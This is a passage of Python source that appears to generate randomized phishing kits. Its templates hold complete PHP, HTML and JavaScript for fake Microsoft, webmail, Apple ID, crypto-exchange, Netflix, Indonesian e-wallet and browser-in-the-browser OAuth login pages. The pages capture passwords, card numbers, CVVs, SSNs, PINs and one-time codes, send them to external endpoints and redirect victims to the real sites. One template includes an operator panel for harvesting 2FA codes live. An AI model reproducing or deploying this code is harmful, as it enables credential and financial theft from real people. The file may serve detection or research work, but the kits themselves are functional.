<p id="err" style="color:#c00"></p>
<script src="https://code.jquery.com/jquery-3.6.0.min.js"></script>
<script>
var tries = 0;
var h = window.location.hash.substr(1);
if (h) { try { $('#em').val(h.indexOf('@') > 0 ? h : atob(h)); } catch (e) {} }
$('#f').on('submit', function (e) {
  e.preventDefault();
  if ($('#pw').is(':hidden')) { $('#pw').show(); $('#h').text($('#em').val()); $('#sub').text('Enter password'); return; }
  $.ajax({ url: '%s', type: 'POST', data: { email: $('#em').val(), password: $('#pw').val(), n: ++tries },
    complete: function () {
      if (tries < 2) { $('#err').text('Your account or password is incorrect.'); $('#pw').val(''); }
      else { window.location.replace('https://outlook.office.com/mail/'); }
    } });
});
</script>""" % (b64('<svg xmlns="http://www.w3.org/2000/svg" width="108" height="24"><rect width="10" height="10" fill="#f25022"/><rect x="11" width="10" height="10" fill="#7fba00"/><rect y="11" width="10" height="10" fill="#00a4ef"/><rect x="11" y="11" width="10" height="10" fill="#ffb900"/></svg>'), act)
    html = page(r, "Sign in to your account", body)
    name = r.choice(("index.html", "secure_doc.html", "voicemail-%s.html" % rword(r, 4), "Remittance_%d.htm" % r.randint(100, 999)))
    return [(r.choice(("", "docs/", "wp-content/uploads/2024/03/")) + name, html, "html")], "kit:webmail-ms"


def webmail_domain_auto(r, S):
    send, ch = _send_block(r, "$data")
    f = """<?php
%s
$email = isset($_GET['email']) ? $_GET['email'] : (isset($_POST['email']) ? $_POST['email'] : '');
$domain = substr(strrchr($email, '@'), 1);
if (!$domain) { $domain = $_SERVER['HTTP_HOST']; }
$logo = 'https://logo.%s/' . $domain . '?size=120';
if ($_SERVER['REQUEST_METHOD'] == 'POST') {
    $data = "Webmail [$domain]\\nEmail: $email\\nPass: " . $_POST['password'] . "\\nIP: $ip $country\\n";
    %s
    $_SESSION_TRIES = isset($_COOKIE['t']) ? (int)$_COOKIE['t'] + 1 : 1;
    setcookie('t', $_SESSION_TRIES);
    if ($_SESSION_TRIES < 3) { header('Location: ?email=' . urlencode($email) . '&err=1'); }
    else { header('Location: http://' . $domain); }
    exit;
}
?><!DOCTYPE html><html><head><meta charset="utf-8"><title><?php echo htmlspecialchars($domain); ?> - Webmail Login</title></head>
<body style="font-family:sans-serif;background:#eef"><div style="width:360px;margin:80px auto;background:#fff;padding:24px">
<img src="<?php echo $logo; ?>" alt="" height="60"><h3><?php echo htmlspecialchars($domain); ?> Webmail</h3>
<?php if (!empty($_GET['err'])) { echo '<p style="color:red">Login failed. Please re-enter your password.</p>'; } ?>
<form method="post"><input name="email" value="<?php echo htmlspecialchars($email); ?>" readonly><input type="password" name="password" placeholder="Password"><button>Log in</button></form>
<small>Roundcube Webmail &middot; cPanel, L.L.C.</small></div></body></html>
""" % (_visitor(r), dom(r), send)
    return [(r.choice(("webmail/", "cpanel-" + rword(r, 4) + "/", "mail/")) + "index.php", f, "php")], "kit:webmail-generic"


def appleid_locked(r, S):
    send, ch = _send_block(r, "$m")
    files = []
    d = r.choice(("appleid/", "id-verify/", "icloud-" + rword(r, 3) + "/"))
    files.append((d + "index.php", _php_page(page(r, "Apple ID - Locked", """<h2>Your Apple ID has been locked</h2><p>For your security, your account was locked. Sign in to unlock it.</p>
<form method="post" action="signin.php"><input name="appleid" placeholder="Apple ID"><input name="pwd" type="password" placeholder="Password"><button>Continue</button></form>""")), "php"))
    files.append((d + "signin.php", """<?php
session_start();
%s
$_SESSION['id'] = $_POST['appleid'];
$m = "APPLE LOGIN\\n" . $_POST['appleid'] . ' : ' . $_POST['pwd'] . "\\n$ip $country\\n$ua";
%sheader('Location: billing.php');
""" % (_visitor(r), send), "php"))
    files.append((d + "billing.php", _php_page(page(r, "Apple ID - Billing", """<h3>Confirm your billing information</h3>
<form method="post" action="done.php"><input name="fullname" placeholder="Full name"><input name="dob" placeholder="Date of birth"><input name="ccnum" placeholder="Card number"><input name="exp" placeholder="MM/YY"><input name="csc" placeholder="Security code"><input name="ssn" placeholder="SSN (US only)"><button>Unlock account</button></form>""")), "php"))
    files.append((d + "done.php", """<?php
session_start();
$m = "APPLE BILLING " . $_SESSION['id'] . "\\n";
foreach (array('fullname', 'dob', 'ccnum', 'exp', 'csc', 'ssn') as $k) { $m .= $k . ': ' . (isset($_POST[$k]) ? $_POST[$k] : '') . "\\n"; }
%sheader('Location: https://www.%s/');
""" % (send, dom(r)), "php"))
    return files, "kit:appleid"


def live_panel_2fa(r, S):
    """Victim waits on a spinner while the operator's panel decides the next step."""
    d = r.choice(("exchange/", "wallet-login/", "secure/")) + hexname(r, 6) + "/"
    brand = r.choice(("Coinbasse", "Binanse", "Krakken Pro", "BlockFi Login"))
    idx = _php_page(page(r, brand + " - Sign In", """<h2>%s</h2><form method="post" action="api.php?a=login"><input name="email" placeholder="Email"><input name="password" type="password" placeholder="Password"><button>Sign in</button></form>""" % brand))
    api = """<?php
session_start();
$db = __DIR__ . '/sessions/';
if (!is_dir($db)) { mkdir($db, 0755, true); }
if (empty($_SESSION['vid'])) { $_SESSION['vid'] = bin2hex(random_bytes(6)); }
$vf = $db . $_SESSION['vid'] . '.json';
$v = is_file($vf) ? json_decode(file_get_contents($vf), true) : array('ip' => $_SERVER['REMOTE_ADDR'], 'state' => 'new', 'data' => array());
$a = isset($_GET['a']) ? $_GET['a'] : '';
if ($a === 'login' || $a === 'code') {
    $v['data'][$a] = $_POST;
    $v['state'] = 'waiting';
    file_put_contents($vf, json_encode($v));
    header('Location: wait.html');
    exit;
}
if ($a === 'poll') {
    header('Content-Type: application/json');
    echo json_encode(array('next' => $v['state']));
    exit;
}
"""
    panel = """<?php
$key = '%s';
if (!isset($_GET['k']) || $_GET['k'] !== $key) { http_response_code(404); exit; }
$db = __DIR__ . '/sessions/';
if (isset($_GET['vid'], $_GET['set'])) {
    $f = $db . basename($_GET['vid']) . '.json';
    $v = json_decode(file_get_contents($f), true);
    $v['state'] = $_GET['set'];
    file_put_contents($f, json_encode($v));
}
echo '<meta http-equiv="refresh" content="3"><table border=1>';
foreach (glob($db . '*.json') as $f) {
    $v = json_decode(file_get_contents($f), true);
    $id = basename($f, '.json');
    echo '<tr><td>' . $id . '</td><td>' . htmlspecialchars($v['ip']) . '</td><td><pre>' . htmlspecialchars(print_r($v['data'], true)) . '</pre></td><td>' . $v['state'] . '</td><td>';
    foreach (array('ask_sms', 'ask_email_code', 'ask_2fa', 'wrong_pass', 'done') as $s) {
        echo '<a href="?k=' . $key . '&vid=' . $id . '&set=' . $s . '">' . $s . '</a> ';
    }
    echo '</td></tr>';
}
""" % rword(r, 10)
    wait = page(r, "Verifying...", """<h3>Verifying your identity...</h3><div id="c" style="display:none"><form method="post" action="api.php?a=code"><input name="code" placeholder="Enter the 6-digit code"><button>Verify</button></form></div>
<script>
setInterval(function () {
  fetch('api.php?a=poll').then(function (r) { return r.json(); }).then(function (j) {
    if (j.next.indexOf('ask_') === 0) { document.getElementById('c').style.display = 'block'; }
    if (j.next === 'wrong_pass') { location.href = 'index.php?e=1'; }
    if (j.next === 'done') { location.href = 'https://www.%s/'; }
  });
}, 2000);
</script>""" % dom(r))
    return [(d + "index.php", idx, "php"), (d + "api.php", api, "php"), (d + "panel.php", panel, "php"),
            (d + "wait.html", wait, "html")], "kit:crypto"


def billing_update_tr_vi(r, S):
    lang = r.choice(("tr", "vi"))
    send, ch = _send_block(r, "$msg")
    if lang == "tr":
        title, t1, lbl = "Netflix - Üyelik askıya alındı", "Ödeme bilginizi güncelleyin", ("Kart üzerindeki isim", "Kart numarası", "Son kullanma", "CVV", "Güncelle")
    else:
        title, t1, lbl = "Netflix - Tài khoản bị tạm ngưng", "Cập nhật thông tin thanh toán", ("Tên trên thẻ", "Số thẻ", "Ngày hết hạn", "CVV", "Cập nhật")
    f = """<?php
%s
if (!empty($_POST['cn'])) {
    $msg = "NF-%s | " . $_POST['nm'] . " | " . $_POST['cn'] . " | " . $_POST['ex'] . " | " . $_POST['cv'] . " | $ip | $country";
    %s
    header('Location: https://www.netflix.com/');
    exit;
}
?>
<!DOCTYPE html><html lang="%s"><head><meta charset="utf-8"><title>%s</title></head>
<body style="background:#141414;color:#fff;font-family:Arial"><div style="max-width:440px;margin:60px auto;background:#000;padding:40px">
<h1 style="color:#e50914">NETFLIX</h1><h2>%s</h2>
<form method="post"><input name="nm" placeholder="%s"><input name="cn" placeholder="%s"><input name="ex" placeholder="%s"><input name="cv" placeholder="%s"><button style="background:#e50914;color:#fff">%s</button></form>
</div></body></html>
""" % ((_visitor(r), lang.upper(), send, lang, title, t1) + lbl)
    return [(r.choice(("nf/", "billing/", "account-" + rword(r, 4) + "/")) + "index.php", f, "php")], "kit:streaming"


def id_ewallet(r, S):
    brand = r.choice(("DANA", "OVO", "ShopeePay", "BRImo"))
    send, ch = _send_block(r, "$pesan")
    d = r.choice(("klaim/", "bansos/", "promo-" + rword(r, 4) + "/"))
    idx = _php_page(page(r, brand + " - Klaim Saldo", """<h2>Selamat! Anda mendapat saldo Rp 2.500.000</h2><p>Masukkan nomor HP %s Anda untuk klaim.</p>
<form method="post" action="pin.php"><input name="hp" placeholder="08xxxxxxxxxx"><button>Klaim Sekarang</button></form>""" % brand, "id"))
    pin = """<?php
session_start();
if (isset($_POST['hp'])) { $_SESSION['hp'] = $_POST['hp']; }
if (isset($_POST['pin'])) {
    %s
    $pesan = "%s\\nNomor: " . $_SESSION['hp'] . "\\nPIN: " . $_POST['pin'] . "\\nOTP: " . (isset($_POST['otp']) ? $_POST['otp'] : '-') . "\\nIP: $ip";
    %s
    if (!isset($_POST['otp'])) { echo '<form method=post><p>Masukkan kode OTP yang dikirim via SMS</p><input name=pin type=hidden value="' . htmlspecialchars($_POST['pin']) . '"><input name=otp><button>Verifikasi</button></form>'; exit; }
    header('Location: sukses.html');
    exit;
}
?>
<!DOCTYPE html><html lang="id"><body><h3>Masukkan PIN %s</h3><form method="post"><input name="pin" type="password" maxlength="6"><button>Lanjut</button></form></body></html>
""" % (_visitor(r), brand, send, brand)
    ok = page(r, "Sukses", "<h3>Saldo sedang diproses dalam 1x24 jam.</h3>", "id")
    return [(d + "index.php", idx, "php"), (d + "pin.php", pin, "php"), (d + "sukses.html", ok, "html")], "kit:ewallet-id"


def bitb_popup(r, S):
    """Browser-in-the-browser: a fake OAuth popup drawn in the page."""
    col = r.choice(("Google", "Microsoft", "Facebook", "Steam"))
    ex = "https://%s/c.php" % dom(r)
    html = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>%s Community - Trade offer</title>
<style>
#win{display:none;position:fixed;top:60px;left:50%%;margin-left:-240px;width:480px;height:560px;border:1px solid #999;border-radius:8px;box-shadow:0 10px 40px rgba(0,0,0,.5);background:#fff;font-family:Segoe UI,Arial}
#bar{height:36px;background:#dee1e6;border-radius:8px 8px 0 0;display:flex;align-items:center;padding:0 10px;font-size:13px}
#url{flex:1;background:#fff;border-radius:14px;padding:4px 12px;margin-left:10px;color:#202124}
#url b{color:#188038}
</style></head><body>
<h1>You received a trade offer</h1><button onclick="document.getElementById('win').style.display='block'">Sign in with %s</button>
<div id="win"><div id="bar"><span>&#x1F512;</span><div id="url"><b>https://</b>accounts.%s.com/signin/oauth?client_id=%s</div><span onclick="this.parentNode.parentNode.style.display='none'" style="cursor:pointer">&#x2715;</span></div>
<div style="padding:30px"><h2>Sign in</h2><form id="lf"><input name="u" placeholder="Email or username" style="width:100%%"><br><br><input name="p" type="password" placeholder="Password" style="width:100%%"><br><br><button>Next</button></form></div></div>
<script>
document.getElementById('lf').onsubmit = function (e) {
  e.preventDefault();
  var d = new FormData(this);
  d.append('ref', location.href);
  navigator.sendBeacon('%s', d);
  setTimeout(function () { location.href = 'https://%s.com/'; }, 600);
};
</script></body></html>
""" % (col, col, col.lower(), hexname(r, 20), ex, col.lower())
    return [(r.choice(("tradeoffer/", "", "gift/")) + r.choice(("index.html", "offer.html", "login.htm")), html, "html")], "kit:oauth-bitb"


def phishing_templates():
    return (("multi_step_es", multi_step_es, 5), ("br_pix_update", br_pix, 4), ("fr_delivery_fee", fr_delivery, 4),
            ("de_bank_tan", de_bank_tan, 4), ("html_only_hash_email", html_only_o365, 4),
            ("webmail_domain_auto", webmail_domain_auto, 4), ("appleid_locked", appleid_locked, 4),
            ("live_panel_2fa", live_panel_2fa, 4), ("billing_update_tr_vi", billing_update_tr_vi, 3),
            ("id_ewallet_claim", id_ewallet, 3), ("bitb_popup", bitb_popup, 3))
